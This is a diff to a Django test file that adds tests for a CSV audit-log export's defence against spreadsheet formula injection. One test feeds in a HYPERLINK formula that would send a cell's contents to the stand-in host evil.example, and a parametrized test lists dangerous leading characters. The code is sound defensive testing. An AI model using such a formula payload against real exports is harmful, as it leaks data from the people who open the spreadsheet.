@@ -9,6 +9,7 @@ import pytest
 from django.utils import timezone
 
 from vejapro.core.models import AuditLog
+from vejapro.core.spreadsheet import spreadsheet_safe
 
 LIST_URL = "/admin/core/auditlog/"
 EXPORT_URL = "/admin/core/auditlog/eksportas/"
@@ -229,3 +230,34 @@ def test_export_is_for_admins_only(client, expert_user):
     client.force_login(expert_user)
 
     assert client.get(EXPORT_URL).status_code == 302
+
+
+@pytest.mark.django_db
+def test_csv_export_neutralises_a_formula_sent_by_an_anonymous_caller(admin_client, api):
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Spausk")'
+    created = api().post_json("/api/v1/projects", {"name": "Jonas"}, HTTP_USER_AGENT=formula)
+    assert created.status_code == 201
+
+    response, rows = _export(admin_client)
+
+    assert response.status_code == 200
+    [row] = [row for row in rows[1:] if row[3] == "PROJECT_CREATED"]
+    assert row[7] == "'" + formula
+    assert row[2] == created.json()["id"]
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+370", "'+370"),
+        ("-5", "'-5"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Mozilla/5.0", "Mozilla/5.0"),
+        ("", ""),
+    ],
+)
+def test_spreadsheet_safe(text, written):
+    assert spreadsheet_safe(text) == written
